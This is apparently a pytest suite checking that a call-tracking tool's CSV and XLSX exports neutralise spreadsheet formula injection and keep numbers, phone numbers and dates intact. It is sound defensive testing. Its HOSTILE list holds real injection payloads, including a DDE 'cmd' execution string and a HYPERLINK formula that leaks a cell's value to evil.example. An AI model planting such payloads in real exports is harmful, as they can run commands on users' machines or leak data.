"""Exports are safe in a spreadsheet: no cell runs as a formula (CSV and XLSX, read back
with openpyxl), numbers and E.164 numbers stay usable, XLSX has native dates, a frozen
header and filters, --excel adds a BOM."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from calls.cli import app
from calls.export import export_table
from calls.sheets import FORMULA_STARTS, looks_like_formula, safe_text
from calls.store import reports as q

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "+1 (555) 010-0199",      # a formula to a spreadsheet (=+1 ... is an expression)
]
PLAIN = ["-12.5", "+3", "+12025550100", "Ann = Bob", "plain text", "", "1e5"]
TABLES = ("customers", "calls", "answers", "followups", "rejects", "dnc")


@pytest.mark.parametrize("text", HOSTILE)
def test_formulas_are_neutralised(text):
    assert looks_like_formula(text)
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_e164_and_plain_text_stay_as_they_are(text):
    assert not looks_like_formula(text)
    assert safe_text(text) == text
    assert safe_text(-12.5) == -12.5 and safe_text(None) is None


@pytest.fixture
def hostile(store):
    """Every table holds a hostile text in its people-written columns (one row each)."""
    for n, text in enumerate(HOSTILE):
        store.db["customers"].insert({
            "ref": text if n == 0 else f"R{n}", "name": text, "company": "-12.5",
            "phone": "+12025550100", "phone_raw": text, "email": text, "owner": text,
            "revenue": -12.5, "customer_since": "2019-03-20",
            "time_zones": json.dumps(["America/New_York"]), "extra": json.dumps({"x": text}),
            "created_at": "2026-01-01T00:00:00Z", "updated_at": "2026-01-01T00:00:00Z"})
    ids = [r["id"] for r in store.all("SELECT id FROM customers ORDER BY id")]
    store.db["scripts"].insert({"id": 1, "name": HOSTILE[1], "version": "=1", "hash": "h",
                                "text": "", "stored_at": "2026-01-01T00:00:00Z"})
    calls = q.insert_calls(store, [
        {"customer_id": cid, "caller": text, "script_id": 1, "reason": text,
         "started_at": "2026-03-10T15:00:00Z", "ended_at": "2026-03-10T15:05:00Z",
         "outcome": "completed", "notes": text}
        for cid, text in zip(ids, HOSTILE)])
    q.insert_answers(store, [(cid, "better", "text", text, "2026-03-10T15:02:00Z")
                             for cid, text in zip(calls, HOSTILE)])
    q.insert_followups(store, [{"kind": "send_info", "customer_id": cid, "status": "open",
                                "owner": text, "details": text,
                                "created_at": "2026-03-10T15:06:00Z",
                                "due_at": "2026-03-20T15:00:00Z"}
                               for cid, text in zip(ids, HOSTILE)])
    imp = store.db["imports"].insert({"kind": "customers", "file": HOSTILE[0],
                                      "started_at": "2026-03-01T09:00:00Z"}).last_pk
    for n, text in enumerate(HOSTILE):
        store.db["rejects"].insert({"import_id": imp, "line": n + 2,
                                    "raw": json.dumps({"name": text}), "reason": text})
        store.db["dnc"].insert({"phone": f"+1202555{n:04d}", "raw": text, "source": "list",
                                "reason": text, "added_at": "2026-03-01T10:00:00Z",
                                "added_by": text})
    store.db.conn.commit()
    return store


def _csv_rows(store, table, **kw) -> list[list[str]]:
    buf = io.StringIO()
    export_table(store, table, buf, fmt="csv", **kw)
    return list(csv.reader(io.StringIO(buf.getvalue(), newline="")))


def _assert_no_formula_cell(rows):
    for row in rows:
        for cell in row:
            assert not looks_like_formula(cell), (cell, row)


@pytest.mark.parametrize("table", TABLES)
def test_csv_export_of_every_table_has_no_formula_cell(hostile, table):
    rows = _csv_rows(hostile, table)
    assert len(rows) == len(HOSTILE) + 1
    _assert_no_formula_cell(rows)
    cells = {cell for row in rows[1:] for cell in row}
    # what was hostile is there, as text a person reads: behind one apostrophe
    assert "'" + HOSTILE[0] in cells or table == "answers"


def test_csv_cells_are_exact_apart_from_the_apostrophe(hostile):
    rows = _csv_rows(hostile, "customers")
    header = rows[0]
    for row, text in zip(rows[1:], HOSTILE):
        cell = dict(zip(header, row))
        assert cell["name"] == "'" + text
        assert cell["phone"] == "+12025550100"          # E.164 stays usable
        assert cell["company"] == "-12.5" and cell["revenue"] == "-12.5"
    calls = _csv_rows(hostile, "calls")
    header = calls[0]
    assert [dict(zip(header, r))["notes"] for r in calls[1:]] == ["'" + t for t in HOSTILE]
    assert dict(zip(header, calls[1]))["customer_ref"] == "'" + HOSTILE[0]


def test_csv_through_the_customer_lookup_is_safe_too(hostile):
    """Many calls per customer: refs come from the in-memory lookup, made safe once."""
    ids = [r["id"] for r in hostile.all("SELECT id FROM customers")]
    q.insert_calls(hostile, [{"customer_id": ids[0], "caller": "=1+1",
                              "started_at": f"2026-03-{d:02d}T15:00:00Z", "outcome": "busy"}
                             for d in range(1, 29)])
    rows = _csv_rows(hostile, "calls")
    _assert_no_formula_cell(rows)
    header = rows[0]
    refs = {dict(zip(header, r))["customer_ref"] for r in rows[1:]}
    assert "'" + HOSTILE[0] in refs


def test_wide_answers_csv_is_safe(hostile):
    rows = _csv_rows(hostile, "answers", wide=True)
    _assert_no_formula_cell(rows)
    assert any(c == "'" + HOSTILE[1] for r in rows for c in r)   # the script's name


def _unescape(text: str) -> str:
    # OOXML writes a carriage return as _x000D_ (Excel reads it back as one; openpyxl
    # leaves it as it is)
    return text.replace("_x000D_", "\r")


def _xlsx(store, table, tmp_path, **kw):
    path = tmp_path / f"{table}.xlsx"
    export_table(store, table, path, fmt="xlsx", **kw)
    return load_workbook(path).active     # not read-only: styles and panes are read too


@pytest.mark.parametrize("table", TABLES)
def test_xlsx_of_every_table_has_no_formula_and_the_exact_text(hostile, tmp_path, table):
    ws = _xlsx(hostile, table, tmp_path)
    texts = set()
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                text = _unescape(cell.value)
                texts.add(text)
                # a cell Excel would re-read as a formula on editing keeps its quote prefix
                assert cell.quotePrefix == looks_like_formula(text), text
    assert HOSTILE[0] in texts or HOSTILE[1] in texts      # exact: no apostrophe added
    assert not any(t.startswith("'") for t in texts)
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}" \
        f"{len(HOSTILE) + 1}"


def test_xlsx_native_types(hostile, tmp_path):
    ws = _xlsx(hostile, "customers", tmp_path)
    header = [c.value for c in ws[1]]
    first = [c.value for c in ws[2]]
    cell = dict(zip(header, first))
    assert cell["revenue"] == -12.5                     # a number
    assert cell["company"] == "-12.5"                   # text stays text
    assert cell["phone"] == "+12025550100"              # E.164 as text
    assert cell["customer_since"] == datetime(2019, 3, 20)   # a native date
    assert cell["created_at"] == datetime(2026, 1, 1)        # a native date and time (UTC)
    assert cell["created_at_local"] == "2025-12-31T19:00:00-05:00"   # with its offset
    kinds = {c.value: ws.cell(2, c.column).number_format for c in ws[1]}
    assert kinds["customer_since"] == "yyyy-mm-dd"
    assert kinds["created_at"] == "yyyy-mm-dd hh:mm:ss"


def test_cli_excel_csv_starts_with_a_bom_and_reads_back(hostile, db_path, tmp_path):
    out = tmp_path / "customers.csv"
    result = CliRunner().invoke(app, ["export", "customers", "--excel", "-o", str(out)])
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0]["name"] == "'" + HOSTILE[0]
    plain = tmp_path / "plain.csv"
    CliRunner().invoke(app, ["export", "customers", "-o", str(plain)])
    assert plain.read_bytes().startswith(b"id,")
    result = CliRunner().invoke(app, ["export", "customers", "--excel", "-f", "json"])
    assert result.exit_code == 2 and "--excel is for CSV" in result.output


def test_json_keeps_the_text_as_it_is(hostile):
    buf = io.StringIO()
    export_table(hostile, "customers", buf, fmt="ndjson")
    names = [json.loads(line)["name"] for line in buf.getvalue().splitlines()]
    assert names == HOSTILE


def test_formula_starts_are_owasps():
    assert FORMULA_STARTS == frozenset("=+-@\t\r")
    assert date(2026, 1, 1)        # (dates are imported for the XLSX checks above)


class _FullDisk(io.BytesIO):
    """A file on a full disk: every write fails as the operating system says it."""

    def write(self, data):
        import errno

        raise OSError(errno.ENOSPC, "No space left on device")


def test_a_full_disk_under_an_xlsx_gives_one_error_and_no_late_traceback(monkeypatch):
    """The zip writer a failed write leaves open must not fail again when it is collected
    (it printed 'Exception ignored in ZipFile.__del__' and a traceback after the error)."""
    import gc
    import sys

    from calls.sheets import XlsxSheet

    late: list = []
    monkeypatch.setattr(sys, "unraisablehook", late.append)
    out = _FullDisk()
    sheet = XlsxSheet(out, "customers", ["ref", "name"])
    sheet.add(["C1", "Ann"])
    with pytest.raises(OSError) as failure:
        sheet.close()
    assert failure.value.strerror == "No space left on device"
    del failure, sheet
    out.close()
    gc.collect()
    assert late == []
